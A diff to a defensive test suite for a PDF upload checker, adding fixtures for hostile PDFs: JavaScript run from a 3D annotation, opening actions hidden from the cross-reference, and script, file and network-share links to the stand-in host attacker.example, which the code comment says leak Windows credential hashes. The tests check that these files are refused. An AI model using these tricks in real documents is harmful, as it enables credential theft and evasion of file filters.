@@ -159,6 +159,89 @@ def pdf_unlisted_action() -> bytes:
     return body[:start] + b"9 0 obj\n" + JS_ACTION + b"\nendobj\n" + body[start:]
 
 
+def pdf_3d_annotation_running_javascript() -> bytes:
+    """A 3D annotation whose artwork stream (/3DD) runs a JavaScript stream when it is instantiated."""
+    u3d, js = b"U3D\x00" + bytes(32), b"app.alert('3d');"
+    return pdf_file(
+        one_page(
+            page=b"/Annots [5 0 R] ",
+            more={
+                5: b"<< /Type /Annot /Subtype /3D /Rect [72 72 300 300] /3DD 6 0 R /3DA << /A /PO >> >>",
+                6: b"<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R /Length %d >>\nstream\n" % len(u3d)
+                + u3d
+                + b"\nendstream",
+                7: b"<< /Length %d >>\nstream\n" % len(js) + js + b"\nendstream",
+            },
+        )
+    )
+
+
+def _unlisted_action_after(separator: bytes) -> bytes:
+    """As `pdf_unlisted_action`, the object's header after `separator` (which a reader skips as it looks)."""
+    body = pdf_file(one_page(catalog=b"/OpenAction 9 0 R "))
+    start = body.index(b"startxref")
+    return body[:start] + separator + b"9 0 obj\n" + JS_ACTION + b"\nendobj\n" + body[start:]
+
+
+def pdf_unlisted_action_after_nul() -> bytes:
+    return _unlisted_action_after(b"\x00")
+
+
+def pdf_unlisted_action_after_a_delimiter() -> bytes:
+    return _unlisted_action_after(b"%c>>")
+
+
+def pdf_unlisted_action_packed() -> bytes:
+    """The opening action is packed in the object stream, but the cross-reference does not list it: no header of it
+    is anywhere in the bytes."""
+    data = pdf_file(
+        {4: one_page()[4]},
+        {**{n: b for n, b in one_page(catalog=b"/OpenAction 9 0 R ").items() if n != 4}, 9: JS_ACTION},
+    )
+    # the cross-reference stream's row of object 9 (type 2, in object stream 10) becomes a free one
+    return data.replace(struct.pack(">BIH", 2, 10, 3), struct.pack(">BIH", 0, 0, 0))
+
+
+def pdf_link(action: bytes) -> bytes:
+    """A link on the page with this action."""
+    return pdf_file(
+        one_page(
+            page=b"/Annots [5 0 R] ",
+            more={5: b"<< /Type /Annot /Subtype /Link /Rect [72 72 90 90] /A " + action + b" >>"},
+        )
+    )
+
+
+# Links that run a script, open a local file or make the viewer connect to a network share (which hands it the
+# user's Windows credentials' hash); refused as unsafe_link.
+UNSAFE_LINKS = [
+    ("a javascript: link", lambda: pdf_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")),
+    ("a javascript: link with a tab in its scheme", lambda: pdf_link(b"<< /S /URI /URI (java\tscript:alert(1)) >>")),
+    ("a vbscript: link", lambda: pdf_link(b"<< /S /URI /URI (VBScript:msgbox) >>")),
+    ("a data: link", lambda: pdf_link(b"<< /S /URI /URI (data:text/html,<script>alert(1)</script>) >>")),
+    ("a file: link", lambda: pdf_link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")),
+    (
+        "an opening action to a javascript: address",
+        lambda: pdf_file(one_page(catalog=b"/OpenAction << /S /URI /URI (javascript:app.alert(1)) >> ")),
+    ),
+    (
+        "a jump to a file on a network share",
+        lambda: pdf_link(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
+    ),
+    (
+        "a jump to a network share, in a file specification",
+        lambda: pdf_link(b"<< /S /GoToR /F << /Type /Filespec /UF (//attacker.example/share/a.pdf) >> /D [0 /Fit] >>"),
+    ),
+    (
+        "form data imported from a network share",
+        lambda: pdf_file(
+            one_page(catalog=b"/OpenAction << /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >> ")
+        ),
+    ),
+    ("an embedded jump to a network share", lambda: pdf_link(b"<< /S /GoToE /F (file://attacker/share/a.pdf) >>")),
+]
+
+
 def pdf_deeply_nested() -> bytes:
     return pdf_file(one_page(catalog=b"/Nest " + b"[" * 150 + b"]" * 150 + b" "))
 
@@ -218,6 +301,7 @@ HOSTILE_PDFS = [
     ("an XFA form", pdf_xfa_form),
     ("a program attached to an annotation", pdf_file_attachment_annotation),
     ("a link that starts a program, in an object stream", pdf_launch_in_link),
+    ("a 3D annotation that runs JavaScript when instantiated", pdf_3d_annotation_running_javascript),
 ]
 
 
@@ -229,6 +313,26 @@ def test_active_content_is_found_in_every_object(make):
         detect(data, filename="liite.pdf", max_file_bytes=MAX_FILE)
 
     assert refused.value.code == "active_content"
+
+
+@pytest.mark.parametrize("make", [make for _name, make in UNSAFE_LINKS], ids=[name for name, _make in UNSAFE_LINKS])
+def test_links_to_scripts_files_and_network_shares_are_refused(make):
+    with pytest.raises(FileRefused) as refused:
+        detect(make(), filename="liite.pdf", max_file_bytes=MAX_FILE)
+
+    assert refused.value.code == "unsafe_link"
+
+
+def test_web_and_mail_links_and_jumps_to_nearby_files_pass():
+    for action in (
+        b"<< /S /URI /URI (https://www.hankinnat.fi/tarjous?id=1#osa) >>",
+        b"<< /S /URI /URI (http://example.fi/) >>",
+        b"<< /S /URI /URI (mailto:hankinnat@kunta.fi) >>",
+        b"<< /S /URI /URI (liitteet/hinnasto.html) >>",
+        b"<< /S /GoToR /F (liite2.pdf) /D [0 /Fit] >>",
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://www.hankinnat.fi/lomake) >> >>",
+    ):
+        assert detect(pdf_link(action), filename="liite.pdf", max_file_bytes=MAX_FILE).name == "pdf", action
 
 
 def test_the_same_files_without_their_actions_pass():
@@ -249,6 +353,9 @@ def test_the_same_files_without_their_actions_pass():
         (lambda: b"%PDF-1.7\n" + bytes(2000), "corrupt_file"),
         (lambda: pdf_file(one_page()).replace(b"startxref\n", b"startxref\n9"), "corrupt_file"),
         (pdf_unlisted_action, "uninspectable_file"),
+        (pdf_unlisted_action_after_nul, "uninspectable_file"),
+        (pdf_unlisted_action_after_a_delimiter, "uninspectable_file"),
+        (pdf_unlisted_action_packed, "uninspectable_file"),
         (pdf_deeply_nested, "uninspectable_file"),
         (pdf_object_stream_bomb, "compression_bomb"),
         (lambda: encrypted_pdf(""), "encrypted_file"),  # opens without a password, still encrypted
@@ -259,6 +366,9 @@ def test_the_same_files_without_their_actions_pass():
         "no structure",
         "cross-reference not where it says",
         "object left out",
+        "object left out, after NUL",
+        "object left out, after >>",
+        "object left out, packed",
         "nested",
         "bomb",
         "no pw",
